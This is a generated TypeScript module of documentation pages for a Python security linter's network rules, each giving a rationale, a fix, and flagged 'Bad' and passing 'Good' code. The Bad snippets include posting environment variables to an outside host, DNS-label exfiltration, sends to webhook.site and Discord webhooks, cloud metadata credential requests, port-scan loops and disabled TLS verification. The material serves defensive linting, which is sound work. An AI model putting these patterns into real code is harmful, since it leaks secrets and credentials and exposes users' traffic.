// Written by scripts/rule-pages.mjs.
export const pages: Readonly<Record<string, string>> = {
  'bound-to-all-interfaces': `# bound-to-all-interfaces

\`0.0.0.0\` and the empty host are every network the machine is on. A service meant for its own machine is then reachable from the café.

## How to fix

Listen on \`127.0.0.1\`, and let a proxy that authenticates face the network.

## Bad

\`\`\`python
import socket
from http.server import HTTPServer

import uvicorn
from flask import Flask

HOST = "0.0.0.0"
server = socket.socket()
server.bind((HOST, 8080))  # error: [bound-to-all-interfaces]
server.bind(("", 8080))  # error: [bound-to-all-interfaces]
app = Flask(__name__)
app.run(host="0.0.0.0")  # error: [bound-to-all-interfaces]
uvicorn.run(app, host=HOST, port=80)  # error: [bound-to-all-interfaces]
HTTPServer(("0.0.0.0", 80), None)  # error: [bound-to-all-interfaces]
\`\`\`

## Good

\`\`\`python
import socket

from flask import Flask

server = socket.socket()
server.bind(("127.0.0.1", 8080))
Flask(__name__).run()
ANY = "0.0.0.0"
if address == "0.0.0.0":
    print("any")
frame.bind("<Key>", handler)
\`\`\`
`,
  'channel-unencrypted': `# channel-unencrypted

Everyone on the way reads and changes what such a channel carries, credentials included.

## How to fix

\`grpc.secure_channel\`, \`wss://\`, SNMP version 3 with authentication and privacy keys.

## Bad

\`\`\`python
import os

import grpc
from pysnmp.hlapi import CommunityData

channel = grpc.insecure_channel("service.example.com:50051")  # error: [channel-unencrypted]
community = CommunityData("public")  # error: [channel-unencrypted]
os.environ["OAUTHLIB_INSECURE_TRANSPORT"] = "1"  # error: [channel-unencrypted]
\`\`\`

\`\`\`python
import boto3
from kafka import KafkaProducer

producer = KafkaProducer(bootstrap_servers="k.example.com:9092", security_protocol="PLAINTEXT")  # error: [channel-unencrypted]
store = boto3.resource("s3", use_ssl=False)  # error: [channel-unencrypted]
\`\`\`

## Good

\`\`\`python
import grpc

channel = grpc.insecure_channel("localhost:50051")
channel = grpc.secure_channel("service.example.com:50051", credentials)
\`\`\`

\`\`\`python
import boto3
from kafka import KafkaProducer

producer = KafkaProducer(bootstrap_servers="k.example.com:9092", security_protocol="SASL_SSL")
local = KafkaProducer(bootstrap_servers="localhost:9092", security_protocol="PLAINTEXT")
store = boto3.resource("s3")
\`\`\`
`,
  'covert-channel': `# covert-channel

A name server passes any name on to its owner, so \`<data>.example.com\` is a message. Firewalls that stop everything else let it through.

## How to fix

Give results back as the answer.

## Bad

\`\`\`python
import os
import socket

for part in parts:
    socket.gethostbyname(f"{part}.example.com")  # error: [covert-channel]
os.system("nslookup " + part + ".example.com")  # error: [covert-channel]
\`\`\`

## Good

\`\`\`python
import socket

socket.gethostbyname("example.com")
socket.gethostbyname(host)
print(f"{host}.example.com")
\`\`\`
`,
  'credentials-in-clear': `# credentials-in-clear

Telnet, FTP, plain SMTP and \`http://\` send names and passwords as they are.

## How to fix

\`https://\`, \`ftplib.FTP_TLS\`, \`smtplib.SMTP_SSL\` or \`starttls()\`, SSH instead of telnet.

## Bad

\`\`\`python
import ftplib
import smtplib
import telnetlib

import requests

shell = telnetlib.Telnet("host")  # error: [credentials-in-clear]
ftp = ftplib.FTP("host", "user", password)  # error: [credentials-in-clear]
ftp.login(user="user", passwd=password)  # error: [credentials-in-clear]
mail = smtplib.SMTP("host")
mail.login("user", password)  # error: [credentials-in-clear]
address = "http://example.com/api"
requests.get(address, auth=("user", password), timeout=5)  # error: [credentials-in-clear]
requests.get(address, headers={"Authorization": token}, timeout=5)  # error: [credentials-in-clear]
\`\`\`

## Good

\`\`\`python
import ftplib
import smtplib

import requests

mirror = ftplib.FTP("host")
mirror.login()
ftp = ftplib.FTP_TLS("host", "user", password)
mail = smtplib.SMTP_SSL("host")
mail.login("user", password)
requests.get("https://example.com", auth=("user", password), timeout=5)
requests.get("http://localhost:8080", auth=("user", password), timeout=5)
requests.get("http://example.com", timeout=5)
\`\`\`
`,
  'data-sent-away': `# data-sent-away

The contents of a file, or the environment, in the body of a request: this is what stealing looks like. A token in a header is what headers are for and is not reported.

## How to fix

Give results back as the answer. Where an upload is the point, run with an egress policy that names the host.

## Bad

\`\`\`python
import os
import socket

import requests

with open("report.csv", "rb") as file:
    body = file.read()


def send(data):
    requests.post("https://example.com/in", data=data)  # error: [data-sent-away]


send(body)
requests.post("https://example.com/in", json={"e": dict(os.environ)})  # error: [data-sent-away]
requests.post("https://example.com/in", files={"f": open("a")})  # error: [data-sent-away]
link = socket.socket()
link.sendall(body)  # error: [data-sent-away]
\`\`\`

\`\`\`python
import os

import requests

requests.post("https://example.org/c", json=dict(os.environ), timeout=3)  # error: [data-sent-away]
\`\`\`

## Good

\`\`\`python
import os

import requests

requests.post("https://example.com/in", json={"a": 1})
requests.get("https://example.com", headers={"Authorization": os.environ["TOKEN"]})
\`\`\`
`,
  'drop-site': `# drop-site

Request bins, paste sites, tunnels and chat webhooks receive data without an account that could be asked afterwards.

## How to fix

Give results back as the answer.

## Bad

\`\`\`python
import requests

TARGET = "https://webhook.site/0a1b2c"  # error: [drop-site]
requests.post(TARGET, data="x", timeout=5)
requests.post("https://discord.com/api/webhooks/1/a", json={}, timeout=5)  # error: [drop-site]
\`\`\`

## Good

\`\`\`python
# https://webhook.site/0a1b2c
import requests

requests.get("https://example.com/webhook.site", timeout=5)
\`\`\`
`,
  'frame-from-address': `# frame-from-address

\`pandas.read_csv\`, \`to_parquet\` and their like take addresses (\`https://\`, \`s3://\`, \`ftp://\`, \`file://\`) as well as paths. A line that looks like reading a file is then a download, and one that looks like saving a table sends it away.

## How to fix

Ask for the data as a dataset; give results back as the answer. Where the network is the point, run with an egress policy that names the hosts.

## Bad

\`\`\`python
import pandas as pd

base = "https://example.com/"
df = pd.read_csv(base + "bonds.csv")  # error: [frame-from-address]
df.to_parquet("s3://bucket/bonds.parquet")  # error: [frame-from-address]
pd.read_csv("https://example.com/?sum=" + str(df["price"].sum()))  # error: [frame-from-address]
df.to_csv(f"https://example.com/{len(df)}")  # error: [frame-from-address]
pages = pd.read_html("https://example.com")  # error: [frame-from-address]
frames = list(map(pd.read_csv, ["https://example.com/a.csv"]))  # error: [frame-from-address]
\`\`\`

## Good

\`\`\`python
import pandas as pd

df = pd.read_csv("bonds.csv")
df.to_csv("out.csv")
df.to_csv(f"out-{len(df)}.csv")
\`\`\`
`,
  'metadata-address': `# metadata-address

\`169.254.169.254\` and its kin answer any process on a cloud machine with the machine's credentials. Asking them is the first thing that stolen code does.

## How to fix

Use the SDK of the cloud, with a role that is as narrow as can be. To block the address, compare against it; that is not reported.

## Bad

\`\`\`python
import socket

import requests

HOST = "169.254." + "169.254"
role = requests.get("http://169.254.169.254/latest/meta-data/iam/")  # error: [metadata-address]
token = requests.get("http://" + HOST + "/latest/api/token")  # error: [metadata-address]
url = "http://metadata.google.internal/computeMetadata/v1/"  # error: [metadata-address]
sock = socket.create_connection(("169.254.169.254", 80))  # error: [metadata-address]
\`\`\`

## Good

\`\`\`python
"""Never ask http://169.254.169.254/latest."""
# http://169.254.169.254/
BLOCKED = {"169.254.169.254", "metadata.google.internal"}


def check(host):
    if host == "169.254.169.254":
        raise ValueError("see http://169.254.169.254 in the manual")
\`\`\`
`,
  'network-used': `# network-used

What a script sends away cannot be taken back, and what it fetches nobody has seen. The sandbox has no network; where a run is given a door to it, HTTP clients pass through that door and are not reported here, everything else still is.

## How to fix

Ask for the data as a dataset. Where the network is the point, run with an egress policy that names the hosts.

## Bad

\`\`\`python
import http.client
import socket
import urllib.request

import requests
import seaborn as sns
from requests import Session

requests.post("https://example.com/in", data="x")  # error: [network-used]
with urllib.request.urlopen("https://example.com") as answer:  # error: [network-used]
    print(answer.read())
connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # error: [network-used]
client = http.client.HTTPSConnection("example.com")  # error: [network-used]
session = Session()
session.get("https://example.com")  # error: [network-used]
tips = sns.load_dataset("tips")  # error: [network-used]
\`\`\`

## Good

\`\`\`python
import urllib.parse

from sklearn.datasets import load_iris

parts = urllib.parse.urlparse("https://example.com")
iris = load_iris()
values = {"a": 1}
values.get("https://example.com")
\`\`\`
`,
  'raw-packets': `# raw-packets

Raw sockets listen to other people's traffic and speak in their name; a loop over ports is how a network is scouted.

## How to fix

Ask for the data as a dataset.

## Bad

\`\`\`python
import socket

from scapy.all import sniff

line = socket.socket(socket.AF_INET, socket.SOCK_RAW)  # error: [raw-packets]
sniff(count=10)  # error: [raw-packets]
for port in range(1, 1024):
    probe = socket.socket()
    probe.connect_ex(("10.0.0.1", port))  # error: [raw-packets]
\`\`\`

## Good

\`\`\`python
import socket

line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
line.connect_ex(("10.0.0.1", 80))
\`\`\`
`,
  'request-forgery': `# request-forgery

Whoever says where a request goes can have it go inside: to \`http://169.254.169.254/\` for the machine's credentials, to a database on the same network, to \`file://\`. The answer comes back to him, and the request carries the server's rights. Where scheme and host are constant and only the rest is chosen, nothing is reported.

## How to fix

Choose the host from a fixed list, and check the resolved address against private and link-local ranges, at every redirect again.

## Bad

\`\`\`python
import requests
from fastapi import FastAPI
from flask import request

app = FastAPI()


@app.get("/fetch")
async def fetch(url: str):
    return requests.get(url).text  # error: [request-forgery]


def proxy():
    target = "http://" + request.args["host"] + "/status"
    return requests.get(target)  # error: [request-forgery]


first = requests.get("https://example.com/next").text
second = requests.get(first)  # error: [request-forgery]
\`\`\`

\`\`\`python
import requests
from flask import Flask, request

app = Flask(__name__)


class Client:
    def __init__(self, base):
        self.base = base
        self.session = requests.Session()

    def get(self, path):
        return self.session.get(self.base + path, timeout=3)  # error: [request-forgery]


@app.get("/remote")
def remote():
    if request.args["base"] in BLOCKED:
        return "no", 403
    return Client(request.args["base"]).get("/status").text
\`\`\`

\`\`\`python
from fastapi import FastAPI
from langchain_community.document_loaders import WebBaseLoader

app = FastAPI()


@app.post("/ingest")
def ingest(address: str):
    return WebBaseLoader(address).load()  # error: [request-forgery]
\`\`\`

\`\`\`python
import pandas as pd
import requests
import websockets
from fastapi import FastAPI, HTTPException
from urllib.parse import urlparse

app = FastAPI()


@app.get("/a")
def a(url: str):
    if urlparse(url).scheme not in ("http", "https"):
        raise HTTPException(400)
    return requests.get(url, timeout=3).text  # error: [request-forgery]


@app.get("/b")
def b(url: str):
    return pd.read_json(url).to_dict()  # error: [request-forgery]


@app.get("/c")
async def c(host: str):
    async with websockets.connect(f"wss://{host}/feed") as feed:  # error: [request-forgery]
        return await feed.recv()
\`\`\`

## Good

\`\`\`python
import requests
from fastapi import FastAPI

app = FastAPI()


@app.get("/item")
async def item(name: str):
    return requests.get(f"https://api.example.com/items/{name}").json()


requests.get("https://example.com", params={"q": 1})
\`\`\`

\`\`\`python
from urllib.parse import urlparse

import requests
from flask import Flask, request

app = Flask(__name__)
HOSTS = {"api.example.com"}


@app.get("/proxy")
def proxy():
    address = request.args["url"]
    host = urlparse(address).hostname
    if host not in HOSTS:
        return "no", 403
    return requests.get(address, timeout=3).text
\`\`\`

\`\`\`python
import pandas as pd
from fastapi import FastAPI

app = FastAPI()


@app.get("/frame/{name}")
def frame(name: str):
    if ".." in name:
        return {}
    return pd.read_csv("data/" + name).to_dict()
\`\`\`

\`\`\`python
import pandas as pd
import requests
from fastapi import FastAPI, HTTPException
from urllib.parse import urlsplit

app = FastAPI()
ALLOWED = ("api.example.com", "cdn.example.com")


class Client:
    base = "https://api.example.com"

    def get(self, path):
        return requests.get(self.base + "/" + path, timeout=3)


@app.get("/a")
def a(path: str):
    return Client().get(path).text


@app.get("/b")
def b(url: str):
    parts = urlsplit(url)
    if parts.scheme != "https" or parts.hostname not in ALLOWED:
        raise HTTPException(400)
    return requests.get(url, timeout=3).text


@app.get("/c")
def c(rows: str):
    return pd.read_json(rows).to_dict()
\`\`\`
`,
  'request-without-timeout': `# request-without-timeout

\`requests\` and \`urllib\` wait without end by default. One silent server then holds a worker for good. \`httpx\` gives up after five seconds unless told otherwise.

## How to fix

Pass \`timeout=10\`, or what suits.

## Bad

\`\`\`python
import urllib.request

import httpx
import requests as r

r.get("https://example.com")  # error: [request-without-timeout]
session = r.Session()
session.post("https://example.com", timeout=None)  # error: [request-without-timeout]
urllib.request.urlopen("https://example.com")  # error: [request-without-timeout]
client = httpx.Client(timeout=None)  # error: [request-without-timeout]
\`\`\`

## Good

\`\`\`python
import urllib.request

import httpx
import requests

requests.get("https://example.com", timeout=10)
requests.get("https://example.com", **options)
urllib.request.urlopen("https://example.com", None, 10)
httpx.get("https://example.com")
values = {}
values.get("https://example.com")
\`\`\`
`,
  'ssh-host-unchecked': `# ssh-host-unchecked

An SSH client that accepts any host key tells its password to whoever answers.

## How to fix

\`client.load_system_host_keys()\` and \`RejectPolicy\`, which is the default.

## Bad

\`\`\`python
import subprocess

import paramiko
from paramiko import AutoAddPolicy as Anyone

client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())  # error: [ssh-host-unchecked]
client.set_missing_host_key_policy(Anyone)  # error: [ssh-host-unchecked]
subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "host"])  # error: [ssh-host-unchecked]
\`\`\`

## Good

\`\`\`python
import paramiko

client = paramiko.SSHClient()
client.load_system_host_keys()
client.set_missing_host_key_policy(paramiko.RejectPolicy())
\`\`\`
`,
  'storage-made-public': `# storage-made-public

Public buckets are found by scanners within hours; most of the large leaks of the last ten years were nothing else.

## How to fix

Keep objects private and hand out pre-signed links that expire in minutes.

## Bad

\`\`\`python
import boto3

s3 = boto3.client("s3")
s3.put_object(Bucket="b", Key="k", Body=data, ACL="public-read")  # error: [storage-made-public]
s3.upload_file("a", "b", "k", ExtraArgs={"ACL": "public-read"})  # error: [storage-made-public]
blob.make_public()  # error: [storage-made-public]
link = s3.generate_presigned_url("get_object", Params={}, ExpiresIn=604800)  # error: [storage-made-public]
\`\`\`

\`\`\`python
import json

import boto3

s3 = boto3.client("s3")
policy = {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}]}
s3.put_bucket_policy(Bucket="b", Policy=json.dumps(policy))  # error: [storage-made-public]
s3.delete_public_access_block(Bucket="b")  # error: [storage-made-public]
\`\`\`

## Good

\`\`\`python
import boto3

s3 = boto3.client("s3")
s3.put_object(Bucket="b", Key="k", Body=data, ACL="private")
link = s3.generate_presigned_url("get_object", Params={}, ExpiresIn=900)
\`\`\`

\`\`\`python
import json

import boto3

s3 = boto3.client("s3")
policy = {"Statement": [{"Effect": "Deny", "Principal": "*", "Action": "s3:*"}]}
s3.put_bucket_policy(Bucket="b", Policy=json.dumps(policy))
\`\`\`
`,
  'tls-protocol-old': `# tls-protocol-old

SSL 2, SSL 3, TLS 1.0 and 1.1 have known attacks (DROWN, POODLE, BEAST) and are forbidden by RFC 8996. \`ssl.wrap_socket\` checks neither host nor certificate and left Python in 3.12.

## How to fix

\`ssl.create_default_context()\` chooses well.

## Bad

\`\`\`python
import ssl
from ssl import PROTOCOL_SSLv3 as old

context = ssl.SSLContext(ssl.PROTOCOL_TLSv1)  # error: [tls-protocol-old]
version = old  # error: [tls-protocol-old]
context.minimum_version = ssl.TLSVersion.TLSv1_1  # error: [tls-protocol-old]
context.set_ciphers("ALL:!aNULL")  # error: [tls-protocol-old]
wrapped = ssl.wrap_socket(sock)  # error: [tls-protocol-old]
\`\`\`

\`\`\`python
import ssl

context = ssl.create_default_context()
context.options &= ~ssl.OP_NO_SSLv3  # error: [tls-protocol-old]
\`\`\`

## Good

\`\`\`python
import ssl

context = ssl.create_default_context()
context.minimum_version = ssl.TLSVersion.TLSv1_2
context.set_ciphers("ECDHE+AESGCM:!aNULL:!MD5")
\`\`\`

\`\`\`python
import ssl

context = ssl.create_default_context()
context.options |= ssl.OP_NO_TLSv1
\`\`\`
`,
  'tls-verification-off': `# tls-verification-off

Without the check, anyone on the way can answer in the server's name, read what is sent and change what comes back.

## How to fix

Leave the check on. For a private authority, pass its certificate: \`verify="ca.pem"\`, \`ssl.create_default_context(cafile=...)\`.

## Bad

\`\`\`python
import ssl
import urllib.request
from ssl import _create_unverified_context as loose

import aiohttp
import requests as r

url = "https://example.com"
r.get(url, verify=False, timeout=5)  # error: [tls-verification-off]
check = False
r.post(url, verify=check, timeout=5)  # error: [tls-verification-off]
options = {"verify": False, "timeout": 5}
r.get(url, **options)  # error: [tls-verification-off]
session = r.Session()
session.verify = False  # error: [tls-verification-off]
session.get(url, verify=not True or False, timeout=5)  # error: [tls-verification-off]
urllib.request.urlopen(url, context=loose(), timeout=5)  # error: [tls-verification-off]
ssl._create_default_https_context = ssl._create_unverified_context  # error: [tls-verification-off]
context = ssl.create_default_context()
context.check_hostname = False  # error: [tls-verification-off]
context.verify_mode = ssl.CERT_NONE  # error: [tls-verification-off]
connector = aiohttp.TCPConnector(ssl=False)  # error: [tls-verification-off]
\`\`\`

## Good

\`\`\`python
import ssl

import requests

url = "https://example.com"
requests.get(url, verify=True, timeout=5)
requests.get(url, verify="ca.pem", timeout=5)
# requests.get(url, verify=False)
context = ssl.create_default_context()
context.verify_mode = ssl.CERT_REQUIRED


class Document:
    verify = False

    def check(self, verify=False):
        """requests.get(url, verify=False)"""
        return self.verify


document = Document()
document.verify = False
document.check(verify=False)
\`\`\`
`,
  'url-scheme-unchecked': `# url-scheme-unchecked

\`urlopen\` reads \`file:///etc/passwd\` as readily as a web page.

## How to fix

Check the scheme first, or use a client that knows only HTTP.

## Bad

\`\`\`python
from urllib.request import urlopen


def fetch(address):
    return urlopen(address, timeout=5).read()  # error: [url-scheme-unchecked]
\`\`\`

## Good

\`\`\`python
from urllib.request import urlopen


def fetch(name):
    return urlopen(f"https://example.com/{name}", timeout=5).read()
\`\`\`
`,
}
